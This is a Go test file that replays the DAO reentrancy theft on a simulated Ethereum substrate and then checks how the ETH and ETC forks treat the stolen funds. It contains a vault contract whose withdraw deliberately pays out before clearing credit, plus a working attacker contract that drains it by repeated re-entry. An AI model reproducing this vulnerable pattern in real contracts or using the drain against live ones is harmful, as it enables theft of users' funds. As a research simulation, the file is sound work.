package evm_test

import (
	"errors"
	"math/big"
	"testing"

	"forkwatch/internal/chain"
	"forkwatch/internal/evm"
	"forkwatch/internal/types"
)

// vaultRuntime is a DAO-like vault: selector 1 = deposit (credits the
// caller), selector 2 = withdraw (pays out the credit). The bug is the
// order in withdraw: it SENDS FIRST and zeroes the credit AFTER, and the
// send forwards enough gas for the recipient to run code — the shape of
// the DAO vulnerability.
func vaultRuntime() []byte {
	a := evm.NewAsm()
	a.Push(0).Op(evm.CALLDATALOAD)
	a.Op(evm.DUP1).Push(1).Op(evm.EQ).JumpI("deposit")
	a.Op(evm.DUP1).Push(2).Op(evm.EQ).JumpI("withdraw")
	a.Op(evm.STOP)

	a.Label("deposit") // [sel]
	a.Op(evm.POP)
	a.Op(evm.CALLER).Op(evm.SLOAD)  // [credit]
	a.Op(evm.CALLVALUE).Op(evm.ADD) // [credit+value]
	a.Op(evm.CALLER).Op(evm.SSTORE)
	a.Op(evm.STOP)

	a.Label("withdraw") // [sel]
	a.Op(evm.POP)
	a.Op(evm.CALLER).Op(evm.SLOAD) // [credit]
	a.Op(evm.DUP1).Op(evm.ISZERO).JumpI("done")
	// CALL(gas=200000, to=caller, value=credit, in=0:0, out=0:0)
	a.Push(0).Push(0).Push(0).Push(0) // [credit, outSize, outOff, inSize, inOff]
	a.Op(evm.DUP1 + 4)                // DUP5: value = credit
	a.Op(evm.CALLER)
	a.Push(200_000)
	a.Op(evm.CALL).Op(evm.POP) // [credit]
	// Zero the credit — but only after the external call above.
	a.Push(0).Op(evm.CALLER).Op(evm.SSTORE)
	a.Op(evm.POP)
	a.Op(evm.STOP)
	a.Label("done")
	a.Op(evm.STOP)
	return a.MustAssemble()
}

// attackerRuntime drains a vault: selector 0xA deposits the call value,
// arms a re-entry counter, and calls withdraw. Every payout from the vault
// lands in the fallback path, which re-enters withdraw while the credit is
// still unzeroed.
func attackerRuntime(vault types.Address) []byte {
	a := evm.NewAsm()
	a.Push(0).Op(evm.CALLDATALOAD)
	a.Op(evm.DUP1).Push(0xA).Op(evm.EQ).JumpI("attack")
	a.Op(evm.POP)
	a.Jump("reenter")

	a.Label("attack") // [sel]
	a.Op(evm.POP)
	// vault.deposit{value: callvalue}()
	a.Push(1).Push(0).Op(evm.MSTORE)
	a.Push(0).Push(0).Push(32).Push(0)
	a.Op(evm.CALLVALUE)
	a.PushAddr(vault)
	a.Push(200_000)
	a.Op(evm.CALL).Op(evm.POP)
	// re-entry budget: 3 extra withdrawals
	a.Push(3).Push(0).Op(evm.SSTORE)
	// vault.withdraw()
	a.Push(2).Push(0).Op(evm.MSTORE)
	a.Push(0).Push(0).Push(32).Push(0).Push(0)
	a.PushAddr(vault)
	a.Push(400_000)
	a.Op(evm.CALL).Op(evm.POP)
	a.Op(evm.STOP)

	a.Label("reenter")
	a.Push(0).Op(evm.SLOAD) // [n]
	a.Op(evm.DUP1).Op(evm.ISZERO).JumpI("halt")
	a.Push(1).Op(evm.SWAP1).Op(evm.SUB) // [n-1]
	a.Push(0).Op(evm.SSTORE)
	a.Push(2).Push(0).Op(evm.MSTORE)
	a.Push(0).Push(0).Push(32).Push(0).Push(0)
	a.PushAddr(vault)
	a.Push(200_000)
	a.Op(evm.CALL).Op(evm.POP)
	a.Op(evm.STOP)
	a.Label("halt")
	a.Op(evm.STOP)
	return a.MustAssemble()
}

// initFor wraps runtime code in init code that returns it (the standard
// deployment shape).
func initFor(runtime []byte) []byte {
	a := evm.NewAsm()
	padded := make([]byte, (len(runtime)+31)/32*32)
	copy(padded, runtime)
	for i := 0; i < len(padded); i += 32 {
		a.PushBytes(padded[i : i+32]).Push(uint64(i)).Op(evm.MSTORE)
	}
	a.Push(uint64(len(runtime))).Push(0).Op(evm.RETURN)
	return a.MustAssemble()
}

func ether(n int64) *big.Int { return new(big.Int).Mul(big.NewInt(n), chain.Ether) }

// selector is the 32-byte calldata word the vault and attacker dispatch on.
func selector(s byte) []byte {
	data := make([]byte, 32)
	data[31] = s
	return data
}

// TestDAOReentrancyDrain replays the event that caused the partition the
// paper studies, on the real substrate: a reentrancy drain of a DAO-like
// vault through mined transactions, then the hard fork that moves the loot
// to a refund contract on ETH while ETC keeps the theft, after which each
// side refuses the other's fork block.
func TestDAOReentrancyDrain(t *testing.T) {
	deployer := types.HexToAddress("0xdep107e4")
	attacker := types.HexToAddress("0xa77ac4e4")
	victims := []types.Address{
		types.HexToAddress("0x01"), types.HexToAddress("0x02"),
		types.HexToAddress("0x03"), types.HexToAddress("0x04"),
	}
	miner := types.HexToAddress("0x900100")
	refund := types.HexToAddress("0x4efd")
	// Contract addresses derive from creator and nonce, so the ETH fork
	// config can name its drain target before deployment, as the real DAO
	// fork enumerated the DAO's addresses.
	vaultAddr := evm.CreateAddress(deployer, 0)
	attackerAddr := evm.CreateAddress(attacker, 0)

	gen := &chain.Genesis{
		Difficulty: big.NewInt(131072),
		Time:       1_469_000_000,
		Alloc:      map[types.Address]*big.Int{deployer: ether(10), attacker: ether(20)},
	}
	for _, v := range victims {
		gen.Alloc[v] = ether(200)
	}
	const forkBlock = 4
	eth, err := chain.NewBlockchain(chain.ETHConfig(forkBlock, []types.Address{attackerAddr}, refund), gen)
	if err != nil {
		t.Fatal(err)
	}
	etc, err := eth.NewSibling(chain.ETCConfig(forkBlock), gen)
	if err != nil {
		t.Fatal(err)
	}
	mineShared := func(txs ...*chain.Transaction) {
		t.Helper()
		b, err := eth.BuildBlock(miner, eth.Head().Header.Time+14, txs)
		if err != nil {
			t.Fatal(err)
		}
		if err := eth.InsertBlock(b); err != nil {
			t.Fatal(err)
		}
		if err := etc.InsertBlock(b); err != nil {
			t.Fatalf("pre-fork block rejected by ETC: %v", err)
		}
	}
	balance := func(bc *chain.Blockchain, addr types.Address) *big.Int {
		t.Helper()
		st, err := bc.HeadState()
		if err != nil {
			t.Fatal(err)
		}
		return st.GetBalance(addr)
	}

	// Block 1 deploys both contracts, block 2 takes the victims' deposits,
	// block 3 is the attack: deposit 10 ether, then withdraw four times.
	mineShared(
		chain.NewTransaction(0, nil, nil, 2_000_000, big.NewInt(1), initFor(vaultRuntime())).Sign(deployer, 0),
		chain.NewTransaction(0, nil, nil, 2_000_000, big.NewInt(1), initFor(attackerRuntime(vaultAddr))).Sign(attacker, 0))
	var deposits []*chain.Transaction
	for _, v := range victims {
		deposits = append(deposits,
			chain.NewTransaction(0, &vaultAddr, ether(150), 200_000, big.NewInt(1), selector(1)).Sign(v, 0))
	}
	mineShared(deposits...)
	if got := balance(eth, vaultAddr); got.Cmp(ether(600)) != 0 {
		t.Fatalf("vault holds %v wei of deposits, want 600 ether", got)
	}
	mineShared(chain.NewTransaction(1, &attackerAddr, ether(10), 2_000_000, big.NewInt(1), selector(0xA)).Sign(attacker, 0))

	loot := balance(eth, attackerAddr)
	if loot.Cmp(ether(10)) <= 0 {
		t.Fatalf("attacker contract holds %v wei after depositing 10 ether: the reentrancy drain failed", loot)
	}

	// Block 4 is the fork block: each side mines its own.
	ethFork, err := eth.BuildBlock(miner, eth.Head().Header.Time+14, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := eth.InsertBlock(ethFork); err != nil {
		t.Fatal(err)
	}
	etcFork, err := etc.BuildBlock(miner, etc.Head().Header.Time+14, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := etc.InsertBlock(etcFork); err != nil {
		t.Fatal(err)
	}

	if got := balance(eth, attackerAddr); got.Sign() != 0 {
		t.Errorf("ETH attacker contract holds %v wei after the fork, want 0", got)
	}
	if got := balance(eth, refund); got.Cmp(loot) != 0 {
		t.Errorf("ETH refund contract holds %v wei, want the loot %v", got, loot)
	}
	if got := balance(etc, attackerAddr); got.Cmp(loot) != 0 {
		t.Errorf("ETC attacker contract holds %v wei, want the loot %v", got, loot)
	}
	if got := balance(etc, refund); got.Sign() != 0 {
		t.Errorf("ETC refund contract holds %v wei, want 0", got)
	}

	if err := etc.InsertBlock(ethFork); !errors.Is(err, chain.ErrSideOfPartition) {
		t.Errorf("ETC accepting ETH's fork block: err = %v, want ErrSideOfPartition", err)
	}
	if err := eth.InsertBlock(etcFork); !errors.Is(err, chain.ErrSideOfPartition) {
		t.Errorf("ETH accepting ETC's fork block: err = %v, want ErrSideOfPartition", err)
	}
}
